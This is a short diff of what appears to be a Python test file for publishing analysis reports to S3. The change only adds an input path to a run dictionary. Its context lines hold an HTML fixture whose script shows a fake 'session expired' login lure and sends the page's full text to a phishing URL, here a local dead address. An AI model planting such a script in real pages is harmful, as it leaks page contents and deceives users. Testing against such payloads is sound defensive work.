@@ -168,7 +168,7 @@ PHISHING = "http://127.0.0.1:9/login"
 NAVIGATING_REPORT = f"""<!doctype html><html><body><p>Session expired, sign in again</p><script>
 location.href = "{PHISHING}?text=" + encodeURIComponent(document.body.innerText);
 </script></body></html>"""
-RUN = {"rows": 3, "n_components": 1, "explained_variance": 0.9, "params": {"k": 2}}
+RUN = {"rows": 3, "n_components": 1, "explained_variance": 0.9, "params": {"k": 2}, "input": "s3://popseg/census/c.csv"}
 
 
 def _publish_report(s3, run_id: str, report: str) -> str:
